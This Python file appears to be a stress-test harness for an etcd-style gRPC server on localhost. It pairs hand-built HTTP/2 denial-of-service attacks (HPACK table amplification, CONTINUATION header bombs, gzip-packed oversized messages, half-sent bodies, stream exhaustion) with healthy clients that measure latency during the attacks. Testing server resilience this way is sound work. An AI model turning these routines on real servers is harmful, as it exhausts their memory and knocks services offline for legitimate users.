"""Hostile clients, and healthy ones beside them. Everything is HTTP/2 by hand (rawh2): no library sends half a request.

    hostile.py KIND PORT CONNECTIONS SECONDS     an attack, as a process of its own
"""
import gzip
import select
import socket
import struct
import sys
import time

import rawh2
from rawh2 import DATA, END_HEADERS, GOAWAY, HEADERS, SETTINGS, WINDOW_UPDATE, frame, message

END_STREAM = 1
RST_STREAM = 3
RANGE, PUT = b"/etcdserverpb.KV/Range", b"/etcdserverpb.KV/Put"
WATCH, KEEPALIVE = b"/etcdserverpb.Watch/Watch", b"/etcdserverpb.Lease/LeaseKeepAlive"
GRANT, AUTHENTICATE = b"/etcdserverpb.Lease/LeaseGrant", b"/etcdserverpb.Auth/Authenticate"
LARGE = 0x7fff0000


def varint(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def text(number, value):
    return varint(number << 3 | 2) + varint(len(value)) + value


def number(tag, value):
    return varint(tag << 3) + varint(value)


def fields(raw):
    """The fields of a protobuf message: {number: last value}."""
    out, at = {}, 0

    def read():
        nonlocal at
        value = shift = 0
        while True:
            byte = raw[at]
            at += 1
            value |= (byte & 127) << shift
            shift += 7
            if byte < 128:
                return value
    while at < len(raw):
        tag = read()
        if tag & 7 == 0:
            out[tag >> 3] = read()
        else:
            n = read()
            out[tag >> 3] = raw[at:at + n]
            at += n
    return out


class Peer:
    """One connection; its streams' events go to functions: on(kind, flags, payload), with kind None when it is lost."""

    def __init__(self, port, token=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer, self.next_stream, self.streams, self.token = b"", 1, {}, token
        self.goaway = None
        self.closed = False
        self.window, self.windows = 65535, {}
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGE)))

    def fileno(self):
        return self.socket.fileno()

    def send(self, raw):
        try:
            self.socket.sendall(raw)
        except OSError:
            self.lose()

    def lose(self):
        if self.closed:
            return
        self.closed = True
        self.socket.close()
        for on in list(self.streams.values()):
            on(None, 0, b"")
        self.streams.clear()

    def head(self, path):
        return rawh2.grpc_head(path) + (rawh2._field(b"token", self.token) if self.token else b"")

    def open(self, path, raw, on, end=False):
        stream = self.next_stream
        self.next_stream += 2
        self.streams[stream] = on
        self.send(frame(HEADERS, END_HEADERS, stream, self.head(path)) +
                  (frame(DATA, END_STREAM if end else 0, stream, message(raw)) if raw is not None else b""))
        return stream

    def say(self, stream, raw):
        self.send(frame(DATA, 0, stream, message(raw)))

    def read(self):
        """What has come; the socket is readable."""
        try:
            more = self.socket.recv(1 << 18)
        except OSError:
            more = b""
        if not more:
            self.lose()
            return
        self.buffer += more
        at = 0
        while len(self.buffer) - at >= 9:
            length = int.from_bytes(self.buffer[at:at + 3], "big")
            if len(self.buffer) - at < 9 + length:
                break
            kind, flags = self.buffer[at + 3], self.buffer[at + 4]
            stream = int.from_bytes(self.buffer[at + 5:at + 9], "big")
            payload = self.buffer[at + 9:at + 9 + length]
            at += 9 + length
            self.dispatch(kind, flags, stream, payload)
        self.buffer = self.buffer[at:]

    def dispatch(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & rawh2.ACK:
            self.send(frame(SETTINGS, rawh2.ACK, 0))
        elif kind == GOAWAY:
            self.goaway = self.goaway or (int.from_bytes(payload[4:8], "big"), payload[8:])
        elif kind == WINDOW_UPDATE:
            n = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += n
            else:
                self.windows[stream] = self.windows.get(stream, 65535) + n
        elif stream in self.streams:
            ends = kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM)
            on = self.streams.pop(stream) if ends else self.streams[stream]
            on(kind, flags, payload)

    def close(self):
        self.closed = True
        self.streams.clear()
        self.socket.close()


def pump(peers, seconds):
    """Reads of whoever has something to say; blocks for as long."""
    readable, _, _ = select.select([peer for peer in peers if not peer.closed], [], [], max(0, seconds))
    for peer in readable:
        if not peer.closed:
            peer.read()


# ---- attacks ----

class Attack:
    """A connection that does its worst, and does it again 5 s after it was ended."""

    def __init__(self, port):
        self.port, self.peer, self.again_at, self.ended, self.why = port, None, 0, 0, ""

    def turn(self, now):
        if self.peer is not None and (self.peer.closed or self.peer.goaway):
            self.why = self.peer.goaway[1].decode() if self.peer.goaway and self.peer.goaway[1] else self.why
            self.ended += 1
            self.peer.close()
            self.peer, self.again_at = None, now + 5
        if self.peer is None and now >= self.again_at:
            try:
                self.peer = Peer(self.port)
                self.work = self.script()
            except OSError:
                self.again_at = now + 1
        if self.peer is not None and not self.peer.closed:
            next(self.work, None)


class Heads(Attack):
    """Calls with a head of 45 KB, which is 20 bytes on the wire, and no body; then smaller ones, so that no room is left."""

    def ask(self, block):
        stream, self.peer.next_stream = self.peer.next_stream, self.peer.next_stream + 2
        self.peer.streams[stream] = lambda *_: None
        self.peer.send(frame(HEADERS, END_HEADERS, stream, rawh2.grpc_head(RANGE) + block))

    def script(self):
        value = b"A" * 3000
        self.ask(b"\x40\x03x-p\x7f" + varint(len(value) - 127) + value)  # into the table: from now on it is one byte
        for i in range(1100):
            self.ask(b"\xbe" * 15)
            if i % 100 == 99:
                yield
        for size, n in ((8000, 20), (4000, 20), (2000, 20), (1000, 20), (500, 60), (200, 60)):
            for _ in range(n):
                self.ask(b"\x00\x03x-q\x7f" + varint(size - 127) + b"B" * size)
            yield
        for _ in range(5):
            for _ in range(200):
                self.ask(b"")
            yield


class Halves(Attack):
    """Watch messages of 2 MiB, of which a little more than half comes; then smaller ones, so that no room is left."""
    SIZES = [(1100 * 1024, 2 << 20)] * 40 + [(300000, 500000)] * 4 + [(30000, 60000)] * 8 + [(3000, 6000)] * 16 + [(10, 1000)] * 64 + \
        [(1, need) for need in (300, 100, 30, 10, 4, 2) for _ in range(8)]

    def script(self):
        peer = self.peer
        for size, need in self.SIZES:
            stream = peer.open(WATCH, None, lambda *_: None)
            left, first = 5 + size, b"\0" + struct.pack(">I", need)
            while left > 0 and stream in peer.streams:
                n = min(peer.window, peer.windows.get(stream, 65535), 16384, left)
                if n > 0:
                    peer.send(frame(DATA, 0, stream, (first + bytes(n))[:n]))
                    first = b""
                    peer.window -= n
                    peer.windows[stream] = peer.windows.get(stream, 65535) - n
                    left -= n
                if n <= 0 or peer.window < 16384:
                    yield
            yield


class Streams(Attack):
    """As many Watch streams as one connection may have, none of which asks for anything."""

    def script(self):
        head = self.peer.head(WATCH)
        while self.peer.next_stream < 2 * 9900:
            out = b""
            for _ in range(500):
                out += frame(HEADERS, END_HEADERS, self.peer.next_stream, head)
                self.peer.next_stream += 2
            self.peer.send(out)
            yield


class Packed(Attack):
    """Watch messages of 2 MiB that come as 2 KB of gzip each; another stream for each one that is ended."""

    def script(self):
        raw = gzip.compress(text(15, bytes((2 << 20) - 64)), 9)  # a field that nobody knows
        peer, whole = self.peer, b"\1" + struct.pack(">I", len(raw)) + raw
        while True:
            stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
            peer.streams[stream] = lambda *_: None
            peer.send(frame(HEADERS, END_HEADERS, stream, peer.head(WATCH) + rawh2._field(b"grpc-encoding", b"gzip")))
            yield from self.fill(stream, whole * 30)

    def fill(self, stream, whole):
        peer, out = self.peer, b""
        while stream in peer.streams:
            out = out or whole
            n = min(peer.window, peer.windows.get(stream, 65535), 16384, len(out))
            if n > 0:
                peer.send(frame(DATA, 0, stream, out[:n]))
                out = out[n:]
                peer.window -= n
                peer.windows[stream] = peer.windows.get(stream, 65535) - n
            yield


class Bombs(Attack):
    """Heads of 131 KB that stand for 500 MB: each byte is a field of 3.9 KB in the table."""
    CONTINUATION = 9

    def script(self):
        peer, value = self.peer, b"A" * 3900
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, peer.next_stream,
                        peer.head(RANGE) + b"\x40\x03x-p\x7f" + varint(len(value) - 127) + value))
        while True:
            peer.next_stream += 2
            parts = [frame(HEADERS, 0, peer.next_stream, peer.head(RANGE) + b"\xbe" * 15000)]
            parts += [frame(self.CONTINUATION, 0, peer.next_stream, b"\xbe" * 16384)] * 6
            parts += [frame(self.CONTINUATION, END_HEADERS, peer.next_stream, b"\xbe" * 16384)]
            peer.socket.setblocking(False)
            out = b"".join(parts)
            while out and not peer.closed:
                try:
                    out = out[peer.socket.send(out):]
                except BlockingIOError:
                    yield
                except OSError:
                    peer.lose()
            peer.socket.setblocking(True)
            yield


KINDS = {"heads": Heads, "halves": Halves, "streams": Streams, "packed": Packed, "bombs": Bombs}


def attack(kind, port, connections, seconds):
    attacks = [KINDS[kind](port) for _ in range(connections)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for one in attacks:
            one.turn(time.monotonic())
        pump([one.peer for one in attacks if one.peer is not None], 0.002)
    print(f"ended={sum(one.ended for one in attacks)} why={next((one.why for one in attacks if one.why), '')}", flush=True)


# ---- healthy clients ----

class Gets:
    """A get every 10 ms, each tenth on a connection of its own."""
    EVERY, TIMEOUT = 0.010, 5

    def __init__(self, port, token):
        self.port, self.token = port, token
        self.peers = [Peer(port, token) for _ in range(4)]
        self.visitors = {}  # a connection for one get -> when it must be over
        self.waiting = {}   # of each get: its number -> when it began
        self.due, self.n = time.monotonic(), 0
        self.took, self.failed = [], 0  # of the phase

    def begin_phase(self):
        self.took, self.failed = [], 0

    def turn(self, now):
        while now >= self.due:
            self.due += self.EVERY
            self.ask(now)
        for number_ in [n for n, at in self.waiting.items() if now - at > self.TIMEOUT]:
            del self.waiting[number_]
            self.failed += 1

    def ask(self, now):
        self.n += 1
        me, peer, got = self.n, self.peers[self.n % 4], []
        self.waiting[me] = now
        try:
            if self.n % 10 == 0:
                peer = Peer(self.port, self.token)
                self.visitors[me] = peer
            elif peer.closed:
                peer = self.peers[self.n % 4] = Peer(self.port, self.token)
        except OSError:
            self.end(me, False)
            return

        def on(kind, flags, payload):
            if kind == DATA and payload:
                got.append(payload)
            if kind is None or kind == RST_STREAM or flags & END_STREAM:
                self.end(me, bool(got) and kind is not None)
        peer.open(RANGE, text(1, b"/hostile/0"), on, end=True)

    def end(self, me, fine):
        began = self.waiting.pop(me, None)
        if me in self.visitors:
            self.visitors.pop(me).close()
        if began is None:
            return
        if fine:
            self.took.append(time.monotonic() - began)
        else:
            self.failed += 1

    def all_peers(self):
        return self.peers + list(self.visitors.values())


class Leases:
    """Kept alive once a second each, by streams that go on."""
    EVERY = 1

    def __init__(self, port, token, ids, per_connection=10):
        self.port, self.token, self.cut, self.due = port, token, 0, 0
        self.peers = []
        self.streams = {}
        for at in range(0, len(ids), per_connection):
            peer = Peer(port, token)
            self.peers.append(peer)
            for lease in ids[at:at + per_connection]:
                self.streams[lease] = peer, peer.open(KEEPALIVE, number(1, lease), self.on)

    def on(self, kind, flags, payload):
        if kind is None or kind == RST_STREAM or flags & END_STREAM:
            self.cut += 1

    def turn(self, now):
        if now < self.due:
            return
        self.due = now + self.EVERY
        for lease, (peer, stream) in self.streams.items():
            if stream in peer.streams:
                peer.say(stream, number(1, lease))


class Watchers:
    """Streams with a watch each; and one new watch a second, which must be created."""

    def __init__(self, port, token, n, per_connection=20):
        self.port, self.token = port, token
        self.created = self.events = self.cut = self.due = 0
        self.tried = self.made = 0
        self.peers = [Peer(port, token) for _ in range(n // per_connection)]
        for peer in self.peers:
            for _ in range(per_connection):
                peer.open(WATCH, self.create(), self.watcher())
        self.fresh = None

    @staticmethod
    def create():
        return text(1, text(1, b"/hostile/watched"))

    def watcher(self):
        seen = []

        def on(kind, flags, payload):
            if kind is None or kind == RST_STREAM or flags & END_STREAM:
                self.cut += 1
            elif kind == DATA and payload:
                self.events += bool(seen)
                self.created += not seen
                seen.append(1)
        return on

    def turn(self, now):
        if now < self.due:
            return
        self.due = now + 1
        if self.fresh is not None:
            self.fresh.close()
        self.tried += 1

        def on(kind, flags, payload):
            self.made += kind == DATA and bool(payload)
        try:
            self.fresh = Peer(self.port, self.token)
            self.fresh.open(WATCH, self.create(), on)
        except OSError:
            self.fresh = None

    def all_peers(self):
        return self.peers + ([self.fresh] if self.fresh is not None else [])


def call(port, path, raw, token=b"", timeout=10):
    """One unary call: the response's message, or None."""
    peer, got, over = Peer(port, token), [], []

    def on(kind, flags, payload):
        if kind == DATA and payload:
            got.append(payload)
        if kind is None or kind == RST_STREAM or flags & END_STREAM:
            over.append(1)
    peer.open(path, raw, on, end=True)
    end = time.monotonic() + timeout
    while not over and time.monotonic() < end:
        pump([peer], 0.1)
    peer.close()
    return b"".join(got)[5:] if got else None


def log_in(port, user, password):
    answer = call(port, AUTHENTICATE, text(1, user.encode()) + text(2, password.encode()))
    assert answer, "Authenticate was not answered"
    return fields(answer)[2]


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
